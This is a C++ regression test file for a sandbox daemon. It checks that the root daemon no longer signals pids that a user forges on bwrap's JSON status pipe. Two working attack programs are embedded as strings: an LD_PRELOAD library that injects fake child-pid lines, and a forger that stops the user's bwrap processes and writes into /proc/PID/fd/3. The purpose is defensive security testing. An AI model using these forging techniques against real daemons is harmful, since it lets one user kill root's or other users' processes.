// Attack 3 of the security review: any user killed any process as root. The daemon read
// bwrap's {"child-pid": N} on its JSON status pipe and later signalled N as root on cancel,
// timeout, quota or destroy; the owner controls that pipe (a library preloaded into bwrap, or a
// second process of theirs writing into /proc/<bwrap>/fd/3). What must hold: the daemon never
// signals or opens, as root, a pid a user's process reported.

#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>

#include <thread>

#include "attack_tools.h"
#include "sandbox_fixture.h"

namespace sandboxd::it {
namespace {

/// In bwrap (where the old daemon put the caller's environment) it writes a forged child-pid
/// line for each pid in $FORGE_PIDS to the status pipe, before bwrap's own.
constexpr const char* kForgingPreload = R"(
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void forge(void) {
  const char* pids = getenv("FORGE_PIDS");
  char comm[64] = {0};
  FILE* f = fopen("/proc/self/comm", "r");
  if (!pids || !f) return;
  fgets(comm, sizeof comm, f);
  fclose(f);
  if (strcmp(comm, "bwrap\n") != 0) return;
  char copy[256];
  snprintf(copy, sizeof copy, "%s", pids);
  for (char* pid = strtok(copy, ","); pid; pid = strtok(NULL, ",")) {
    char line[64];
    int n = snprintf(line, sizeof line, "{\"child-pid\": %s}\n", pid);
    write(3, line, n);
  }
}
)";

/// A second process of the owner's: finds each new bwrap of its user, stops it at once, writes
/// forged child-pid lines into its status fd (/proc/PID/fd/3), lets it go on, and keeps
/// writing them for as long as it runs.
constexpr const char* kForger = R"(
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static int is_my_bwrap(const char* pid) {
  char path[64], comm[64] = {0};
  struct stat st;
  snprintf(path, sizeof path, "/proc/%s", pid);
  if (stat(path, &st) != 0 || st.st_uid != getuid()) return 0;
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  read(fd, comm, sizeof comm - 1);
  close(fd);
  return strcmp(comm, "bwrap\n") == 0;
}
int main(int argc, char** argv) {
  // argv[1]: seconds to run; argv[2..]: the pids to claim.
  time_t end = time(NULL) + atoi(argv[1]);
  char lines[1024] = {0};
  for (int i = 2; i < argc; ++i) {
    char line[64];
    snprintf(line, sizeof line, "{\"child-pid\": %s}\n", argv[i]);
    strncat(lines, line, sizeof lines - strlen(lines) - 1);
  }
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    struct dirent* e;
    while (proc && (e = readdir(proc))) {
      if (e->d_name[0] < '0' || e->d_name[0] > '9' || !is_my_bwrap(e->d_name)) continue;
      int pid = atoi(e->d_name);
      kill(pid, SIGSTOP);
      char path[64];
      snprintf(path, sizeof path, "/proc/%d/fd/3", pid);
      int fd = open(path, O_WRONLY | O_NONBLOCK);
      if (fd >= 0) { write(fd, lines, strlen(lines)); close(fd); }
      kill(pid, SIGCONT);
    }
    if (proc) closedir(proc);
  }
  return 0;
}
)";

class ForgedPidAttackTest : public AliceSandboxTest {
 protected:
  /// Ends a job the two ways that kill it: its timeout, and a cancel (Ctrl-C). (Quota breach
  /// and a caller leaving take the same path, Job::Cancel.)
  void EndJobsEveryWay(const std::vector<std::string>& extra_run_args) {
    std::vector<std::string> timed = {"run", "--timeout", "2"};
    timed.insert(timed.end(), extra_run_args.begin(), extra_run_args.end());
    timed.insert(timed.end(), {id_, "--", "sleep", "30"});
    Result r = Ctl(timed);
    EXPECT_EQ(r.status, 137) << r.err;

    std::vector<std::string> cancelled = {"run"};
    cancelled.insert(cancelled.end(), extra_run_args.begin(), extra_run_args.end());
    cancelled.insert(cancelled.end(), {id_, "--", "sleep", "30"});
    pid_t client = StartSandboxctl(kAlice, cancelled);
    ASSERT_TRUE(WaitUntil([&] { return Ctl({"--json", "show", id_}).out.find("\"running_jobs\": 1") != std::string::npos; },
                          std::chrono::seconds(20)));
    std::this_thread::sleep_for(std::chrono::milliseconds(300));  // let the forger have its go
    kill(client, SIGINT);
    waitpid(client, nullptr, 0);
  }
};

TEST_F(ForgedPidAttackTest, ALineForgedByAPreloadedLibraryKillsNobody) {
  std::string library = CompileC("forge-preload.so", kForgingPreload, /*shared=*/true);
  ASSERT_FALSE(library.empty());
  Sleeper root_victim;
  Sleeper bob_victim(kBob);
  std::string pids = std::to_string(root_victim.pid()) + "," + std::to_string(bob_victim.pid());
  EndJobsEveryWay({"--env", "LD_PRELOAD=" + library, "--env", "FORGE_PIDS=" + pids});
  EXPECT_TRUE(root_victim.Alive()) << "the daemon killed a root process on alice's word";
  EXPECT_TRUE(bob_victim.Alive()) << "the daemon killed bob's process on alice's word";
}

TEST_F(ForgedPidAttackTest, LinesForgedIntoBwrapsStatusFdKillNobody) {
  std::string forger = CompileC("status-forger", kForger);
  ASSERT_FALSE(forger.empty());
  Sleeper root_victim;
  Sleeper bob_victim(kBob);
  // As alice, beside her jobs.
  pid_t forging = SpawnAs(kAlice, {forger, "60", std::to_string(root_victim.pid()), std::to_string(bob_victim.pid())});
  EndJobsEveryWay({});
  kill(forging, SIGKILL);
  waitpid(forging, nullptr, 0);
  EXPECT_TRUE(root_victim.Alive()) << "the daemon killed a root process on alice's word";
  EXPECT_TRUE(bob_victim.Alive()) << "the daemon killed bob's process on alice's word";
}

}  // namespace
}  // namespace sandboxd::it
